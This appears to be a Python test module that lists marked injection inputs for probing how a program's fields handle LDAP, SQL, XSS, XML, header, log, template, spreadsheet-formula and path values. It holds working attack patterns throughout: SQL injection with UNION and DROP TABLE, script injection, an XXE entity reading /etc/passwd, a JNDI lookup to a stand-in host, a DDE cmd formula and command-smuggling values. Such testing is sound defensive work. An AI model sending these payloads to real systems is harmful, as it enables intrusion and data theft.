"""Values that mean something to a directory, a database, a browser, a spreadsheet and the other readers of what people type.

Each is one line of text without control characters, so that it is a value and not a broken request. CONTROL has the others.
MARK is in each, so that a value is found again wherever it went.
"""

MARK = "zq7"

LDAP = [
    "*)(uid=*zq7", "zq7)(|(uid=*))", "*zq7*", "zq7)(objectClass=*", "zq7\\2a", "zq7\\", "(zq7)", "&(uid=zq7)", "zq7)(!(uid=x)",
    "uid=zq7,dc=example", "zq7, cn=admin", "zq7#", '"zq7"', "zq7+cn=x", "zq7;x", "zq7=x", "<zq7>",
]  # fmt: skip
SQL = [
    "zq7'", 'zq7"', "zq7`", "' OR '1'='1' -- zq7", "zq7' UNION SELECT password FROM subscriber -- ", "zq7'; DROP TABLE line; -- ",
    "zq7%", "zq7_", "zq7' AND SLEEP(9) AND 'a'='a", "1 OR SLEEP(9) -- zq7", "zq7') OR ('1'='1", "zq7/*!50000SELECT*/", "zq7\\' OR 1=1 -- ",
    "zq7¿' OR 1=1 -- ", "+zq7 -x >y <z (a) ~b *", "0x7a7137 zq7", "@@version zq7", "zq7 LIMIT 1 INTO OUTFILE '/tmp/zq7'", "?zq7", ":zq7",
]  # fmt: skip
XSS = [
    "<script>alert('zq7')</script>", "\"><script>zq7()</script>", "'><img src=x onerror=zq7()>", "\" autofocus onfocus=zq7() x=\"",
    "' onmouseover='zq7()", "` onclick=zq7() `", "</title><svg onload=zq7()>", "</textarea><b>zq7</b>", "</select><i>zq7</i>",
    "</pre><u>zq7</u>", "--><script>zq7()</script><!--", "<!--zq7", "]]><a href=zq7>", "javascript:zq7()", "java\u200bscript:zq7()",
    "data:text/html,<script>zq7()</script>", "&lt;b&gt;zq7", "&#60;b&#62;zq7&#60;/b&#62;", "&zq7", "&amp;zq7;", "\u00abzq7\u00bb \u2028 \u2029",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=zq7()>", "<template><p>zq7", "<base href=//zq7.example/>",
    "<plaintext>zq7", "<zq7", "</zq7", "zq7/onload=1", "<a\u00a0href=x>zq7</a>", "%3Cscript%3Ezq7%3C/script%3E", "\\u003cb\\u003ezq7",
    "\ufe64b\ufe65zq7", "\uff1cb\uff1ezq7\uff1c/b\uff1e", "<\u0131mg src=x onerror=zq7()>", "//zq7.example/x", "/\\zq7.example",
]  # fmt: skip
XML = [
    "<?xml version='1.0'?><!DOCTYPE z [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><z>&e;zq7</z>", "]]>zq7", "<![CDATA[zq7]]>", "&e;zq7",
    "</User_ID_1_><Admin_Passwd>zq7</Admin_Passwd>", "</flat-profile>zq7", "<zq7/>", "&#0;zq7", "&#x1;zq7", "<!-- zq7 --", "%zq7;", "\ufffezq7",
]  # fmt: skip
HEADER = [
    "zq7%0d%0aSet-Cookie:%20zq7=1", "zq7\u560d\u560aSet-Cookie: zq7=1", "zq7; path=/; HttpOnly", "zq7\\r\\nLocation: //zq7.example",
    "=?utf-8?q?zq7?=", "zq7@example.org>, <other@example.org", "zq7, other@example.org", "Bcc: zq7@example.org", '"zq7" <zq7@example.org>',
    "zq7 X: y",
]  # fmt: skip
LOG = ['zq7" level="error', "zq7 spaconf: registered ref=\"x\"", "zq7\\n<3>spaconf: failed", "%s%n%x%zq7", "${jndi:ldap://zq7.example/a}",
       "<3>zq7", "\u202ezq7\u202c", "zq7\u2028spaconf: failed"]  # fmt: skip
TEMPLATE = ["{{BASE}}zq7", "{{#zq7}}", "{{>zq7}}", "{{!zq7", "}}zq7", "{{%AUTOESCAPE context=\"HTML\"}}zq7", "${zq7}", "#{7*7}zq7", "<%= 7*7 %>zq7",
            "{% zq7 %}", "[spaconf zq7]", "$zq7", "$MA zq7", "{$ENV{PATH}} zq7"]  # fmt: skip
FORMULA = ["=1+1+zq7", "+1+zq7", "-1+zq7", "@SUM(1)zq7", "=HYPERLINK(\"http://zq7.example\")", "=cmd|' /C zq7'!A0", "'=zq7", "''zq7",
           " =zq7", "zq7;=1+1", "zq7,=1+1", "\"=zq7\"", "\uff1d1+1zq7"]  # fmt: skip
PATH = ["../../../etc/passwd#zq7", "..\\..\\zq7", "/etc/zq7", "zq7/../../x", "%2e%2e%2fzq7", "..%c0%afzq7", "file:///zq7", "zq7|id", "`zq7`",
        "$(zq7)", "zq7;id", "zq7 && id", "-zq7", "--config=zq7", "~/zq7", "zq7*?[a]", "CON.zq7"]  # fmt: skip

KINDS = {"ldap": LDAP, "sql": SQL, "xss": XSS, "xml": XML, "header": HEADER, "log": LOG, "template": TEMPLATE, "formula": FORMULA,
         "path": PATH}  # fmt: skip
ALL = [each for values in KINDS.values() for each in values]



def spread(names, at):
    """Another value for each name. As `at` goes through all numbers below len(ALL), each name gets each value."""
    return {name: ALL[(at + 7 * place) % len(ALL)] for place, name in enumerate(names)}


# One of each kind, where each value costs several requests.
FEW = [values[at % len(values)] for at, values in enumerate(KINDS.values())]

# What no field takes, and what the programs must refuse in each.
CONTROL = ["zq7\r\nSet-Cookie: zq7=1", "zq7\0", "zq7\x1b[2J", "\tzq7", "zq7\x7f", "zq7\n<3>spaconf: failed"]
